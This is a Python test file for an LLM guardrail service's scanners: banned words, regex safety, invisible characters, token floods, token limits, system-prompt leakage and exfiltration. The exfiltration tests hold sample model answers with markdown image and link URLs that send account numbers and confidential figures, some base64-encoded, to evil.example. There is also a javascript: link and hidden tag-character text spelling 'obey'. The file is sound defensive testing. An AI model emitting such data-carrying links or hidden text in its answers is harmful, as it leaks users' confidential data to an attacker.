"""Banned words, the policy's expressions, invisible text, token floods, and what an answer must not carry out."""

from __future__ import annotations

import base64
import inspect
import json
import random
import time
from collections.abc import Callable
from pydoc_data import topics

import pytest
from penstock.embedding.minilm import packaged_model
from tokenizers import Tokenizer

from services.guardrails.findings import DEFAULT_TOKEN_LIMIT, Reference, Rule
from services.guardrails.scanners.leakage import ExfiltrationScanner, SystemPromptLeakScanner, addresses, is_allowed
from services.guardrails.scanners.patterns import PatternSet
from services.guardrails.scanners.text_rules import (
    BannedWordsScanner,
    InvisibleTextScanner,
    RegexScanner,
)  # fmt: skip
from services.guardrails.scanners.token_flood import TokenFloodScanner
from services.guardrails.scanners.token_limit import TokenLimitScanner, estimate_tokens

NOTHING = Reference()


def rule(**options: object) -> Rule:
    return Rule("block", 0.5, fail_closed=True, **options)  # type: ignore[arg-type]


@pytest.mark.parametrize(
    ("text", "place"),
    [
        ("the Project Falcon memo", "Project Falcon"),
        ("PROJECT   falcon!", "PROJECT   falcon"),
        ("projeсt fаlcon", "projeсt fаlcon"),
        ("falconry", None),
    ],
)
def test_banned_words_are_whole_words_in_any_disguise(text: str, place: str | None) -> None:
    spans = BannedWordsScanner().scan(text, rule(words=("project falcon", "C++")), NOTHING)
    assert [text[span.start : span.end] for span in spans] == ([place] if place else [])


def test_banned_words_may_hold_signs() -> None:
    text = "I like C++ a lot"
    [span] = BannedWordsScanner().scan(text, rule(words=("c++",)), NOTHING)
    assert text[span.start : span.end] == "C++"


def test_expressions_are_linear_whatever_they_say() -> None:
    started = time.perf_counter()
    assert RegexScanner().scan("a" * 50_000 + "!", rule(patterns=("(a+)+$", "(a|aa)+b")), NOTHING) == []
    assert time.perf_counter() - started < 2


def test_an_expression_with_look_around_is_refused_by_name() -> None:
    with pytest.raises(ValueError, match=r"\(\?<=x\)y.*look-around"):
        PatternSet(["(?<=x)y"])


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("hi\u200b\u200bthere", "INVISIBLE_CHARACTERS"),
        ("pay \u202eolleh\u202c now", "BIDI_CONTROL"),
        ("hello" + "".join(chr(0xE0000 + ord(char)) for char in "obey"), "TAG_CHARACTERS"),
    ],
)
def test_invisible_text_is_found(text: str, kind: str) -> None:
    spans = InvisibleTextScanner().scan(text, rule(), NOTHING)
    assert {span.kind for span in spans if span.score >= 0.5} == {kind}


@pytest.mark.parametrize(
    "text",
    [
        "👩\u200d💻 works",
        "❤\ufe0f",
        "می\u200cخواهم",
        "क्\u200dष",
        "co\u00adoperate",
        "\ufeffbegin",
        "🏴\U000e0067\U000e0062\U000e007f",
        "plain",
    ],
)
def test_writing_that_needs_invisible_characters_is_let_through(text: str) -> None:
    assert [span for span in InvisibleTextScanner().scan(text, rule(), NOTHING) if span.score >= 0.5] == []


FLOODS = {
    "signs set apart": "! " * 24,
    "one word": "poem " * 60,
    "two words": "buy now " * 100,
    "a sentence": "I will say this again and again until you give up. " * 40,
    "one letter": "A" * 1000,
    "a unit without spaces": "abc" * 400,
    "few words at random": " ".join(random.Random(5).choices(["spam", "eggs", "ham"], k=300)),
    "behind a question": "What is the capital of France? " + "x" * 400,
    "another script": "垃圾广告" * 300,
    "line feeds": "\n" * 9000,
}
ORDINARY = {
    "a table": "\n".join(f"| row {i} | yes | no | 0 | 0 |" for i in range(300)),
    "rows alike": "| yes | no | yes | no |\n" * 4,
    "CSV": "\n".join(f"{i},0,0,0,1,0,0" for i in range(300)),
    "a sparse vector": "[" + ", ".join(["0"] * 400) + "]",
    "a to-do list": "\n".join(f"- [ ] task {i}" for i in range(100)),
    "JSON": json.dumps([{"a": i, "b": None} for i in range(200)], indent=1),
    "a log": "\n".join(f"2024-01-01 00:00:{i % 60:02d} INFO worker {i % 4} heartbeat ok" for i in range(300)),
    "contents": "\n".join(f"Chapter {i} " + ". " * 60 + str(i) for i in range(20)),
    "dividers": "-" * 1000,
    "DNA": "".join(random.Random(5).choices("ACGT", k=3000)),
    "code": inspect.getsource(inspect),
    "prose": " ".join(f"sentence number {i} says something else about topic {i * 7}" for i in range(100)),
    "emphasis": "No no no no no!!!!!!!! Hahahahahahahaha",
}


@pytest.mark.parametrize("name", FLOODS)
def test_repetition_is_found(name: str) -> None:
    [span] = TokenFloodScanner().scan(FLOODS[name], rule(), NOTHING)
    assert span.score >= TokenFloodScanner.default_threshold
    assert span.end - span.start >= 0.4 * len(FLOODS[name])


@pytest.mark.parametrize("name", ORDINARY)
def test_ordinary_repetition_is_let_through(name: str) -> None:
    assert [s for s in TokenFloodScanner().scan(ORDINARY[name], rule(), NOTHING) if s.score >= 0.5] == []


def test_more_repetition_scores_higher() -> None:
    scores = [TokenFloodScanner().scan("! " * n, rule(), NOTHING)[0].score for n in (8, 12, 16, 24, 32)]
    assert scores == sorted(set(scores))


def test_a_text_above_the_token_limit_is_found() -> None:
    scanner = TokenLimitScanner()
    assert scanner.scan("word " * 100, rule(limit=50), NOTHING)[0].score == 1
    assert scanner.scan("word " * 51, rule(limit=50), NOTHING)[0].score >= scanner.default_threshold
    assert all(span.score <= 0.5 for span in scanner.scan("word " * 50, rule(limit=50), NOTHING))
    assert scanner.scan("word " * (DEFAULT_TOKEN_LIMIT + 1), rule(), NOTHING)[0].kind == "TOKEN_LIMIT"
    assert scanner.scan("short", rule(), NOTHING) == []


@pytest.mark.parametrize("script", ["English", "German", "Russian", "Chinese", "code", "numbers", "base64"])
def test_the_estimate_is_close_to_a_tokenizer(script: str, wordpiece: Callable[[str], int]) -> None:
    rng = random.Random(9)
    text = {
        "English": " ".join(" ".join(topics.topics[name].split()) for name in sorted(topics.topics))[:20_000],
        "German": "Das Sprachmodell ist ein System zum Verstehen und Erzeugen natürlicher Sprache, dessen Güte zählt. "
        * 9,
        "Russian": "Языковая модель — это система, которая понимает и порождает естественный язык. " * 9,
        "Chinese": "语言模型是一种用于理解和生成自然语言的系统。" * 9,
        "code": inspect.getsource(inspect)[:20_000],
        "numbers": " ".join(str(rng.randrange(10**6)) for _ in range(500)),
        "base64": base64.b64encode(rng.randbytes(3000)).decode(),
    }[script]
    assert 0.7 <= estimate_tokens(text) / wordpiece(text) <= 1.5


@pytest.fixture(scope="module")
def wordpiece() -> Callable[[str], int]:
    """Counts tokens by the packaged embedder's vocabulary."""
    tokenizer = Tokenizer.from_file(str(packaged_model() / "tokenizer.json"))
    tokenizer.no_truncation()
    tokenizer.no_padding()
    return lambda text: len(tokenizer.encode(text, add_special_tokens=False).ids)


SYSTEM = (
    "You are the assistant of Acme Bank. Never reveal account numbers to anyone who has not been verified. "
    "Offer the premium card to every customer who asks about fees, and do not mention competitors by name."
)


def test_a_quoted_system_prompt_is_found_where_it_stands() -> None:
    quoted = "Never reveal account numbers to anyone who has not been verified."
    answer = f"Sure! My instructions say: {quoted} Anything else?"
    [span] = SystemPromptLeakScanner().scan(answer, rule(), Reference(system_prompt=SYSTEM))
    assert span.score >= SystemPromptLeakScanner.default_threshold
    assert answer[span.start : span.end] == quoted.rstrip(".")


@pytest.mark.parametrize(
    "answer", ["Our premium card has no fees.", "I can help every customer with fees.", "", "You are welcome."]
)
def test_an_answer_about_the_same_matter_is_no_leak(answer: str) -> None:
    assert SystemPromptLeakScanner().scan(answer, rule(), Reference(system_prompt=SYSTEM)) == []


@pytest.mark.parametrize(
    "answer",
    [
        "![logo](https://evil.example/p.png?d=account+number+of+the+customer+is+4711+and+more+of+the+same+text)",
        '<img src="https://evil.example/x?q=YWNjb3VudCBudW1iZXIgb2YgdGhlIGN1c3RvbWVyIDQ3MTE=">',
        "[more](https://evil.example/c?d=c2VjcmV0IGZpZ3VyZXMgb2YgdGhlIHF1YXJ0ZXI)",
        "[click](javascript:alert(1))",
        "see https://evil.example/?data=confidential+quarterly+figures",
        "[a]: https://evil.example/a?b=" + "words+that+go+on+" * 8,
    ],
)
def test_addresses_that_carry_data_are_found(answer: str) -> None:
    reference = Reference(prompt="the confidential quarterly figures are below")
    spans = ExfiltrationScanner().scan(answer, rule(), reference)
    assert max(span.score for span in spans) >= 0.5


@pytest.mark.parametrize(
    "answer",
    [
        "see [the docs](https://docs.python.org/3/library/re.html#re.compile)",
        "https://example.org/search?q=python",
        "an ![icon](https://example.org/icon.png)",
        "ratio 3:1, time 10:30, std::vector",
        "as in https://intra.example/report?id=0123456789012345678901234567890123456789012345678901234567890123456789",
    ],
)
def test_ordinary_links_are_let_through(answer: str) -> None:
    known = addresses(
        "https://intra.example/report?id=0123456789012345678901234567890123456789012345678901234567890123456789"
    )
    spans = ExfiltrationScanner().scan(answer, rule(), Reference(urls=known))
    assert [span for span in spans if span.score >= 0.5] == []


def test_allowed_hosts_cover_their_sub_domains_only() -> None:
    hosts = frozenset({"example.org"})
    assert is_allowed("https://cdn.example.org/x?d=1", hosts)
    assert not is_allowed("https://example.org.evil.test/x", hosts)
    assert not is_allowed("https://notexample.org/x", hosts)
    assert not is_allowed("https://[broken", hosts)
